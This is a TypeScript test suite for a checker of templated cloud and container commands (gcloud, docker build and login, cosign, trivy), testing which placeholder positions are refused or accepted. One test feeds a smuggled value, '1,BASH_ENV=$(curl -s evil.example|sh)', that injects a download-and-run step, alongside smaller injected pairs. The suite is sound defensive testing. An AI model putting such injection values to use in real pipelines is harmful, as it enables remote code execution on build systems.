// Forms a review of the cosign, trivy, gcloud, buildx and registry-login rules found accepted although they
// choose what runs, whose image it is, where the credentials go, or what a scan looks at; and the look-alikes
// that stay accepted. The refusal patterns of the review's cases are loose (any refusal naming the template).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  assertAccepted,
  assertRefused,
  assertScriptAccepted,
  assertScriptRefused,
  renderArgv,
  renderLine,
} from '../../helpers/command-checks.ts';

const ANY = /\{\{x\}\}/;

test("gcloud --user-output-enabled takes an optional true|false (nargs='?'): the command after it is still read", () => {
  // calliope: add_argument('--user-output-enabled', nargs='?', const='true', choices=('true', 'false'), …), so
  // gcloud reads `false` as its value and then runs `run deploy …`; here `false` is read as the first group.
  assertRefused(
    ['gcloud', '--user-output-enabled', 'false', 'run', 'deploy', 'svc', '--image', '{{x}}'],
    ANY,
  );
  assertRefused(['gcloud', '--user-output-enabled', 'false', 'auth', 'configure-docker', '{{x}}'], ANY);
  assertRefused(
    ['gcloud', '--user-output-enabled', 'true', 'config', 'set', 'api_endpoint_overrides/run', '{{x}}'],
    ANY,
  );
  assertRefused(['gcloud', '--user-output-enabled', 'false', 'run', 'services', 'replace', '{{x}}'], ANY);
  assertRefused(['gcloud', '--user-output-enabled', 'false', 'builds', 'submit', '{{x}}'], ANY);
  assertRefused(['gcloud', '--user-output-enabled', 'true', 'app', 'deploy', '{{x}}'], ANY);
  // Without a value, the next word is the group.
  assertRefused(['gcloud', '--user-output-enabled', 'run', 'deploy', 'svc', '--image', '{{x}}'], ANY);
  assertRefused(['gcloud', '--user-output-enabled', 'auth', 'configure-docker', '{{x}}'], ANY);
  // What stays accepted: a tag, a file name after a fixed directory, an operand after the verb.
  assertAccepted([
    'gcloud',
    '--user-output-enabled',
    'false',
    'run',
    'deploy',
    'svc',
    '--image',
    'gcr.io/p/a:{{x}}',
  ]);
  assertAccepted(['gcloud', '--user-output-enabled', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/a:{{x}}']);
  assertAccepted([
    'gcloud',
    '--user-output-enabled=false',
    'run',
    'deploy',
    'svc-{{x}}',
    '--image',
    'gcr.io/p/a:1',
  ]);
  assertAccepted([
    'gcloud',
    '--user-output-enabled',
    'false',
    'run',
    'services',
    'replace',
    'deploy/svc-{{x}}.yaml',
  ]);
});

test('gcloud --flatten (a wide flag of every command) takes a value: the login and config set after it are still read', () => {
  // `gcloud --flatten x run deploy --image {{x}}` is refused (unknown option), but these are accepted.
  assertRefused(['gcloud', '--flatten', 'x', 'auth', 'configure-docker', '{{x}}'], ANY);
  assertRefused(['gcloud', '--flatten', 'x', 'config', 'set', 'api_endpoint_overrides/run', '{{x}}'], ANY);
  assertRefused(['gcloud', '--flatten', 'x', 'run', 'services', 'replace', '{{x}}'], ANY);
  assertRefused(['gcloud', '--access-token-file', 't', 'run', 'services', 'replace', '{{x}}'], ANY);
  assertAccepted(['gcloud', '--flatten', 'x', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/a:{{x}}']);
  assertAccepted(['gcloud', '--flatten', 'x', 'run', 'services', 'update-traffic', 'svc-{{x}}']);
  assertAccepted(['gcloud', '--flatten', 'x', 'auth', 'configure-docker', 'us-docker.pkg.dev', '--quiet']);
});

test("Artifact Registry's project and a regional gcr.io host's account are an account anyone can make", () => {
  // A public Artifact Registry repository of the value's project: any image, run by Cloud Run as the service.
  assertRefused(
    ['gcloud', 'run', 'deploy', 'svc', '--image', 'us-central1-docker.pkg.dev/{{x}}/repo/app:1'],
    ANY,
  );
  assertRefused(['docker', 'pull', 'europe-west1-docker.pkg.dev/{{x}}/repo/app:1'], ANY);
  assertRefused(['docker', 'pull', 'us.gcr.io/{{x}}/app:1'], ANY);
  // The other public registries' accounts (and Google's other regions, written in any case).
  for (const image of [
    'asia.gcr.io/{{x}}/app:1',
    'EU.GCR.IO/{{x}}/app:1',
    'mirror.gcr.io/{{x}}/app:1',
    'us-docker.pkg.dev/{{x}}/repo/app:1',
    'registry.gitlab.com/{{x}}/project/app:1',
    'public.ecr.aws/{{x}}/app:1',
    'docker.io/{{x}}/app:1',
    'ghcr.io/{{x}}/app:1',
    'quay.io/{{x}}/app:1',
    'docker.pkg.github.com/{{x}}/repo/app:1',
    'nvcr.io/{{x}}/app:1',
  ])
    assertRefused(['docker', 'pull', image], ANY);
  // A fixed project's repository, image, tag or digest: the project's own.
  for (const image of [
    'us.gcr.io/p/app:{{x}}',
    'us.gcr.io/p/app-{{x}}:1',
    'us-central1-docker.pkg.dev/p/{{x}}/app:1',
    'europe-west1-docker.pkg.dev/p/repo/app:{{x}}',
    'europe-west1-docker.pkg.dev/p/repo/app@sha256:{{x}}',
    'registry.gitlab.com/group/project/{{x}}:1',
  ])
    assertAccepted(['docker', 'pull', image]);
  assertAccepted([
    'gcloud',
    'run',
    'deploy',
    'svc',
    '--image',
    'us-central1-docker.pkg.dev/p/repo/app:{{x}}',
  ]);
});

test('gcloud --set-env-vars/--update-env-vars KEY={{x}}: a comma in the value adds variables (BASH_ENV, NODE_OPTIONS)', () => {
  for (const argv of [
    ['gcloud', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/app:1', '--set-env-vars', 'VERSION={{x}}'],
    ['gcloud', 'run', 'services', 'update', 'svc', '--update-env-vars=VERSION={{x}}'],
    ['gcloud', 'functions', 'deploy', 'fn', '--set-build-env-vars', 'VERSION={{x}}'],
  ]) {
    const bad = '1,BASH_ENV=$(curl -s evil.example|sh)';
    assert.throws(() => renderArgv(argv, bad), ANY, `${argv.join(' ')} with ${bad}`);
    assert.throws(() => renderLine(argv, bad), ANY, `${argv.join(' ')} with ${bad}`);
    assert.doesNotThrow(() => renderArgv(argv, '1.2.3'));
  }
});

test("gcloud's other KEY=VALUE lists: the values checked once rendered, a template in a key or the delimiter refused", () => {
  for (const argv of [
    ['gcloud', 'run', 'deploy', 'svc', '--update-labels', 'env={{x}}'],
    ['gcloud', 'run', 'jobs', 'update', 'j', '--set-labels=team=a,env={{x}}'],
    ['gcloud', 'functions', 'deploy', 'fn', '--update-build-env-vars', 'A=1,V={{x}}'],
    ['gcloud', 'builds', 'submit', '.', '--config', 'cb.yaml', '--substitutions', '_VERSION={{x}}'],
    ['gcloud', 'compute', 'instances', 'update-container', 'vm', '--container-env', 'V={{x}}'],
  ]) {
    for (const render of [renderArgv, renderLine]) {
      assert.throws(() => render(argv, '1,_DEPLOY=evil'), /holds ","/, argv.join(' '));
      assert.doesNotThrow(() => render(argv, 'v1.2.3'), argv.join(' '));
      // A value may hold "=" (gcloud splits each pair at its first) and "^" (a delimiter only at the start).
      assert.doesNotThrow(() => render(argv, 'a=b^c'), argv.join(' '));
    }
  }
  // ^X^ chooses the delimiter: then a value holding X adds pairs, and one holding "," does not.
  const custom = ['gcloud', 'run', 'deploy', 'svc', '--set-env-vars', '^:^A=1:V={{x}}'];
  assert.throws(() => renderArgv(custom, '1:BASH_ENV=/tmp/x'), /holds ":"/);
  assert.doesNotThrow(() => renderArgv(custom, '1,2'));
  // A delimiter of two characters, made of the value's last and the text after it.
  const double = ['gcloud', 'run', 'deploy', 'svc', '--set-env-vars=^::^V={{x}}:B=1'];
  assert.throws(() => renderArgv(double, '1:'), /another "::"/);
  assert.doesNotThrow(() => renderArgv(double, '1'));
  // A key, or the delimiter, chooses the variable.
  for (const argv of [
    ['gcloud', 'run', 'deploy', 'svc', '--set-env-vars', '{{x}}=1'],
    ['gcloud', 'run', 'deploy', 'svc', '--set-env-vars', 'A=1,{{x}}'],
    ['gcloud', 'run', 'deploy', 'svc', '--update-env-vars=A=1,B_{{x}}=2'],
    ['gcloud', 'run', 'deploy', 'svc', '--set-env-vars', '^{{x}}^A=1'],
    ['gcloud', 'functions', 'deploy', 'fn', '--set-build-env-vars', '{{x}}'],
  ])
    assertRefused(
      argv,
      /\{\{x\}\}.* is in the pairs gcloud --[a-z-]+ sets .*which variable or label it sets/,
    );
  // Through a variable, the list is not checked: refused.
  assertScriptRefused('V={{x}}; gcloud run deploy svc --set-env-vars "VERSION=$V"', ANY);
  assertScriptAccepted('gcloud run deploy svc --set-env-vars "VERSION={{x}}"');
});

test('the buildx builder is chosen by docker image build, docker builder build and docker compose build too', () => {
  assertRefused(['docker', 'image', 'build', '--builder', '{{x}}', '.'], ANY);
  assertRefused(['docker', 'builder', 'build', '--builder', '{{x}}', '.'], ANY);
  assertRefused(['docker', 'compose', 'build', '--builder', '{{x}}'], ANY);
  assertRefused(['docker', 'image', 'build', '--builder=ci-{{x}}', '.'], /docker image build --builder/);
  assertRefused(
    ['docker', 'compose', '-f', 'c.yml', 'build', '--builder={{x}}'],
    /docker compose build --builder/,
  );
  assertRefused(['docker-compose', 'build', '--builder', '{{x}}'], /docker-compose build --builder/);
  // The build's tag and arguments stay accepted.
  assertAccepted(['docker', 'image', 'build', '--builder', 'ci', '-t', 'reg/app:{{x}}', '.']);
  assertAccepted(['docker', 'builder', 'build', '--build-arg', 'V={{x}}', '.']);
  assertAccepted(['docker', 'compose', 'build', '--builder', 'ci', '--build-arg', 'V={{x}}']);
});

test("gcloud's other commands choosing what runs, its image or its secrets", () => {
  // Cloud Run worker pools take --image/--command/--args as services do; jobs execute --args overrides the args.
  assertRefused(['gcloud', 'run', 'worker-pools', 'deploy', 'w', '--image', '{{x}}'], ANY);
  assertRefused(
    ['gcloud', 'run', 'worker-pools', 'deploy', 'w', '--image', 'gcr.io/p/a:1', '--command', '{{x}}'],
    ANY,
  );
  assertRefused(['gcloud', 'run', 'jobs', 'execute', 'j', '--args', '{{x}}'], ANY);
  // Cloud Functions (2nd gen) --set-secrets: any secret of the project, as run deploy's.
  assertRefused(['gcloud', 'functions', 'deploy', 'fn', '--set-secrets', 'KEY={{x}}:latest'], ANY);
  // app deploy --appyaml replaces the deployable's app.yaml (gcloud app deploy {{x}} is refused).
  assertRefused(['gcloud', 'app', 'deploy', '--appyaml', '{{x}}'], ANY);
  // Cloud Deploy: the source uploaded (skaffold.yaml, the manifests) says what is deployed.
  assertRefused(
    ['gcloud', 'deploy', 'releases', 'create', 'r', '--delivery-pipeline', 'p', '--source', '{{x}}'],
    ANY,
  );
  assertRefused(
    ['gcloud', 'deploy', 'releases', 'create', 'r', '--delivery-pipeline', 'p', '--skaffold-file', '{{x}}'],
    ANY,
  );
  // builds submit --pack image=IMAGE names the image it builds and pushes, as --tag does.
  assertRefused(['gcloud', 'builds', 'submit', '--pack', 'image={{x}}'], ANY);
  // Container-Optimized OS VMs run --container-image.
  assertRefused(
    ['gcloud', 'compute', 'instances', 'create-with-container', 'vm', '--container-image', '{{x}}'],
    ANY,
  );
  assertRefused(
    ['gcloud', 'compute', 'instances', 'update-container', 'vm', '--container-image', '{{x}}'],
    ANY,
  );
  // More of the same, in the rule's words.
  const RUNS = /\{\{x\}\}.* what the container runs .*--set-env-vars VERSION=\{\{x\}\}/;
  assertRefused(['gcloud', 'run', 'worker-pools', 'update', 'w', '--args={{x}}'], RUNS);
  assertRefused(['gcloud', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/a:1', '--args=-c,{{x}}'], RUNS);
  assertRefused(['gcloud', 'beta', 'run', 'jobs', 'execute', 'j', '--args', '{{x}}'], RUNS);
  assertRefused(
    ['gcloud', 'compute', 'instances', 'create-with-container', 'vm', '--container-command', '{{x}}'],
    RUNS,
  );
  assertRefused(['gcloud', 'compute', 'instances', 'update-container', 'vm', '--container-arg={{x}}'], RUNS);
  assertRefused(['gcloud', 'functions', 'deploy', 'fn', '--update-secrets', 'KEY={{x}}:1'], ANY);
  assertRefused(['gcloud', 'app', 'deploy', 'app.yaml', '--appyaml={{x}}'], /gcloud app deploy --appyaml/);
  for (const option of ['--skaffold-file', '--from-k8s-manifest', '--from-run-manifest'])
    assertRefused(
      ['gcloud', 'deploy', 'releases', 'create', 'r', '--delivery-pipeline', 'p', option, '{{x}}'],
      ANY,
    );
  assertRefused(['gcloud', 'builds', 'submit', '--pack', 'builder={{x}}'], ANY);
  assertRefused(['gcloud', 'builds', 'submit', '--pack=image=gcr.io/p/a:{{x}},builder=b'], ANY);
  assertRefused(
    ['gcloud', 'builds', 'submit', '--pack', 'image=gcr.io/p/a:1,env=GOOGLE_ENTRYPOINT={{x}}'],
    ANY,
  );
  assertRefused(['gcloud', 'builds', 'submit', '--pack', 'image=us-docker.pkg.dev/{{x}}/r/a:1'], ANY);
  // What stays accepted: a tag, a variable, a release's name, a file name after a fixed directory.
  assertAccepted(['gcloud', 'run', 'worker-pools', 'deploy', 'w', '--image', 'gcr.io/p/a:{{x}}']);
  assertAccepted(['gcloud', 'run', 'jobs', 'execute', 'j', '--update-env-vars', 'VERSION={{x}}', '--wait']);
  assertAccepted([
    'gcloud',
    'functions',
    'deploy',
    'fn',
    '--set-secrets',
    'KEY=s:latest',
    '--set-env-vars',
    'V={{x}}',
  ]);
  assertAccepted(['gcloud', 'app', 'deploy', 'app.yaml', '--appyaml', 'app.yaml', '--version', 'v-{{x}}']);
  assertAccepted([
    ...[
      'gcloud',
      'deploy',
      'releases',
      'create',
      'rel-{{x}}',
      '--delivery-pipeline',
      'p',
      '--source',
      'deploy/',
    ],
    ...['--skaffold-file', 'skaffold-{{x}}.yaml', '--images', 'app=gcr.io/p/app:{{x}}'],
  ]);
  assertAccepted([
    'gcloud',
    'deploy',
    'releases',
    'create',
    'r',
    '--delivery-pipeline',
    'p',
    '--from-k8s-manifest',
    'k8s/app-{{x}}.yaml',
  ]);
  assertAccepted(['gcloud', 'builds', 'submit', '--pack', 'image=gcr.io/p/app:{{x}}']);
  assertAccepted([
    'gcloud',
    'builds',
    'submit',
    '--pack=builder=gcr.io/buildpacks/builder,image=gcr.io/p/app:{{x}}',
  ]);
  assertAccepted([
    'gcloud',
    'compute',
    'instances',
    'update-container',
    'vm',
    '--container-image',
    'gcr.io/p/app:{{x}}',
  ]);
  assertAccepted([
    'gcloud',
    'compute',
    'instances',
    'create-with-container',
    'vm-{{x}}',
    '--container-image',
    'gcr.io/p/app:1',
  ]);
});

test('who gcloud acts as, in the forms besides --account and --key-file', () => {
  // auth print-access-token [ACCOUNT]: the token of any account of this machine (then given to docker login).
  assertRefused(['gcloud', 'auth', 'print-access-token', '{{x}}'], ANY);
  // auth login --cred-file: a credential file (a key, or a workload identity config naming its token URL).
  assertRefused(['gcloud', 'auth', 'login', '--cred-file={{x}}'], ANY);
  // The credential file every Google client library (and docker-credential-gcr, terraform) acts with.
  assertRefused(['env', 'GOOGLE_APPLICATION_CREDENTIALS={{x}}', 'gcloud', 'run', 'deploy', 'svc'], ANY);
  // google-github-actions/auth exports CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE: assigning it changes gcloud's.
  assertScriptRefused(
    'CLOUDSDK_AUTH_CREDENTIAL_FILE_OVERRIDE={{x}}; gcloud run deploy svc --image gcr.io/p/a:1',
    ANY,
  );
  // In gcloud's own words, and the other forms.
  const ACTS = /\{\{x\}\}.* its value would choose who gcloud acts as/;
  assertRefused(['gcloud', 'auth', 'print-identity-token', '--audiences=https://app.example', '{{x}}'], ACTS);
  assertRefused(
    [
      'gcloud',
      '--user-output-enabled',
      'false',
      'auth',
      'print-access-token',
      'ci-{{x}}@p.iam.gserviceaccount.com',
    ],
    ACTS,
  );
  assertRefused(['gcloud', 'auth', 'login', '--cred-file', 'creds/{{x}}.json'], ACTS);
  assertRefused(['gcloud', 'run', 'deploy', 'svc', '--impersonate-service-account={{x}}'], ACTS);
  assertRefused(['gcloud', 'config', 'set', 'core/account', '{{x}}'], ACTS);
  for (const script of [
    'GOOGLE_APPLICATION_CREDENTIALS={{x}} terraform apply',
    'export GOOGLE_APPLICATION_CREDENTIALS=keys/{{x}}.json; terraform apply',
    'GOOGLE_APPLICATION_CREDENTIALS={{x}}; docker push gcr.io/p/a:1',
    'CLOUDSDK_CORE_PROJECT={{x}}; gcloud run deploy svc --image gcr.io/p/a:1',
  ])
    assertScriptRefused(script, ANY);
  // The token of the account the job acts as, its options; the project as --project (checked once rendered).
  assertAccepted(['gcloud', 'auth', 'print-access-token', '--lifetime', '3600']);
  // (--audiences https://{{x}}.example: a token for any service, refused: gcloud-trivy-cosign-choices.)
  assertAccepted([
    'gcloud',
    'auth',
    'print-identity-token',
    '--audiences',
    'https://app.example',
    '--include-email',
    '--verbosity',
    '{{x}}',
  ]);
  assertAccepted(['gcloud', 'auth', 'login', '--cred-file', 'creds.json', '--quiet']);
  assertAccepted(['gcloud', 'run', 'deploy', 'svc', '--image', 'gcr.io/p/a:1', '--project', 'app-{{x}}']);
  assertScriptAccepted('VERSION={{x}}; gcloud run deploy svc --image "gcr.io/p/a:$VERSION"');
});

test('trivy --severity chooses what the gate fails on, as TRIVY_SEVERITY (refused) does', () => {
  assertRefused(['trivy', 'image', '--exit-code', '1', '--severity', '{{x}}', 'reg/app:1'], ANY);
});

test("the refusals' words: a login's server, what cosign clean deletes, a build's cache server", () => {
  assertRefused(
    ['docker', 'login', '-u', 'bot', '--password-stdin', 'registry.{{x}}.com'],
    /its value would choose the server the credentials are sent to .*write the registry in the config \(docker login registry\.example\.com/,
  );
  for (const argv of [
    ['cosign', 'clean', '--type', '{{x}}', 'reg/app:1'],
    ['cosign', 'clean', '--force', '--type={{x}}', 'reg/app:1'],
  ])
    assertRefused(argv, /what cosign clean --type deletes .*: its value would choose what is deleted/);
  // verify-attestation's --type keeps its own words (the predicate type it verifies).
  assertRefused(
    ['cosign', 'verify-attestation', '--type', '{{x}}', '--key', 'k.pub', 'reg/app:1'],
    /the predicate type it verifies or attests/,
  );
  assertAccepted(['cosign', 'clean', '--type', 'signature', '--force', 'reg/app:{{x}}']);
  for (const argv of [
    ['docker', 'buildx', 'build', '--cache-from', 'type=gha,url={{x}}', '.'],
    ['docker', 'buildx', 'build', '--cache-to=type=gha,mode=max,url=https://{{x}}/', '.'],
    ['docker', 'build', '--cache-from', 'type=s3,region=eu-west-1,bucket=b,endpoint_url={{x}}', '.'],
  ])
    assertRefused(argv, /the cache server docker (buildx )?build --cache-(from|to) chooses \(url=/);
  assertAccepted(['docker', 'buildx', 'build', '--cache-from', 'type=gha,scope=app-{{x}}', '.']);
  assertAccepted(['docker', 'buildx', 'build', '--cache-to', 'type=gha,mode=max,scope=app-{{x}}', '.']);
});
